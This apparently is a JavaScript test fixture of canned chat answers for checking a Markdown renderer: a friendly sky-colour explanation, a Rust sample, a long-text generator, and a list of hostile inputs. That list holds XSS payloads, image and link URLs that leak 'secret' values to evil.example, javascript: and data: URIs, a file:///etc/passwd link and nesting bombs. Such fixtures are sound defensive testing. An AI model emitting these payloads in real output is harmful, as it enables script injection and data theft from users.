// What the stand-in answers: a friendly text with every kind of Markdown, a hostile one, long ones. Data alone.

export const TALK = `Sunlight looks white, but it is a **mixture of all colours**. When it meets the air, the tiny molecules scatter *short* waves far more than long ones:

1. Red and yellow travel nearly straight.
2. Blue is thrown about in **every direction**, so it reaches your eye from the whole sky.
   - At sunset the way is longer, and even \`green\` is scattered away.
   - What is left is orange and red.

> “The blue of the sky is the light that lost its way.”

## How much more?

The strength grows with \\(1/\\lambda^4\\), so a little difference counts:

| Colour | Wavelength | Scattered |
|:-------|-----------:|:---------:|
| Blue   | 450 nm     | 4.4 ×     |
| Green  | 550 nm     | 2.0 ×     |
| Red    | 650 nm     | 1.0 ×     |

\`\`\`python
def scattered(wavelength_nm: float) -> float:
    """Against red light of 650 nm."""
    return (650 / wavelength_nm) ** 4
\`\`\`

- [x] the sky is blue 😀
- [ ] the sea is another story

More in [a good book](https://books.example/sky?page=2) or at https://light.example/why.`;

export const CODE = "Here:\n\n```rust\nfn main() {\n    println!(\"{}\", \"x\".repeat(200));\n}\n```\n\nDone.";

const EVIL = "evil.example";
export const HOSTILE = [
  `![x](https://${EVIL}/?q=secret)`, `![](https://${EVIL}/empty.png "t")`, `[![in](https://${EVIL}/in.png)](https://${EVIL}/out)`,
  `<img src=https://${EVIL}/a.png onerror=alert(1)>`, `<script>alert(1)</script>`, `<svg onload=alert(1)><use href="https://${EVIL}/s.svg#a"/></svg>`,
  `<iframe src="https://${EVIL}/"></iframe><object data="https://${EVIL}/"></object><embed src="https://${EVIL}/">`,
  `<link rel=stylesheet href=https://${EVIL}/a.css><style>@import url(https://${EVIL}/b.css); body{background:url(https://${EVIL}/c.png)}</style>`,
  `<meta http-equiv=refresh content="0;url=https://${EVIL}/">`, `<base href=https://${EVIL}/>`, `<form action=https://${EVIL}/><input autofocus onfocus=alert(1)>`,
  `<a href="https://${EVIL}/ping" ping="https://${EVIL}/p">x</a>`, `<video poster=https://${EVIL}/v.png src=https://${EVIL}/v.mp4 autoplay></video>`,
  `[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](java\tscript:alert(1)) [c](&#106;avascript:alert(1)) [v](vbscript:x)`,
  `[data](data:text/html,<script>alert(1)</script>) ![d](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) [b](blob:https://${EVIL}/1) [f](file:///etc/passwd)`,
  `[trust me](https://bank.example@${EVIL}/login) [bank.example](https://${EVIL}/) <https://${EVIL}/auto> https://${EVIL}/bare?secret=1 [m](mailto:a@${EVIL})`,
  `[quote"onmouseover="alert(1)](https://${EVIL}/"onmouseover="alert(1)) [a](<https://${EVIL}/ x> "t")`,
  `[ref]: https://${EVIL}/ref\n[ref] ![ref]`, "`<img src=x onerror=alert(1)>` and **<b onclick=alert(1)>bold</b>**",
  "```html\" onload=alert(1)\n<script>alert(1)</script>\n```", `| <img src=https://${EVIL}/t.png> | ![t](https://${EVIL}/t2.png) |\n|---|---|\n| &lt;img src=x onerror=alert(1)&gt; | \u202eevil\u0007\u001b]8;;https://${EVIL}\u0007 |`,
  `${">".repeat(60)} deep`, `${"- ".repeat(60)}deep`, `${"*a ".repeat(300)}${"a* ".repeat(300)}`, `${"[".repeat(500)}x${"]".repeat(500)}(https://${EVIL}/)`,
  "&#0;&#xD800;&#x110000; \u0000 \ufffd", "THE END",
].join("\n\n");

/** About 20,000 tokens: paragraphs, or one endless paragraph, list or block of code. */
export function long(question) {
  const line = (index) => `Line ${index} goes on with **some** words and a \`little\` code`;
  const lines = Array.from({ length: 1200 }, (_, index) => line(index));
  if (question.includes("code")) return `\`\`\`text\n${lines.join("\n")}\n\`\`\`\n\nTHE END`;
  if (question.includes("list")) return `${lines.map((text) => `- ${text}`).join("\n")}\n\nTHE END`;
  if (question.includes("paragraph")) return `${lines.join(". ")}\n\nTHE END`;
  return `${lines.join("\n\n")}\n\nTHE END`;
}
